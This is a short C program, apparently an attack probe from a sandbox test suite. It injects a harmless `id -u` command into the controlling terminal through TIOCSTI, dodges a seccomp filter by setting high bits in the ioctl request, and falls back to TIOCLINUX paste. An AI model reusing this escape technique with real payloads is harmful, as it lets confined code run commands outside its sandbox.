/* type-command FILE: types a command into whatever terminal its descriptors are of, so that the shell there runs it: `id -u` into FILE. */
#include "attack.h"
#include <sys/ioctl.h>

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    char command[300], select = 2;
    snprintf(command, sizeof command, "id -u >%s\n", argv[1]);
    int descriptors[] = {0, 1, 2, open("/dev/tty", O_RDWR | O_CLOEXEC)};
    for (int index = 0; index < 4; index++) {
        bool typed = descriptors[index] >= 0;
        // the kernel looks at 32 bits of the request alone: so has a filter
        for (const char *letter = command; typed && *letter != '\0'; letter++)
            typed = syscall(SYS_ioctl, (long)descriptors[index], 0x100000000L | TIOCSTI, letter) == 0;
        if (typed) break;
        ioctl(descriptors[index], 0x541C /* TIOCLINUX: paste */, &select);
    }
    return 0;
}
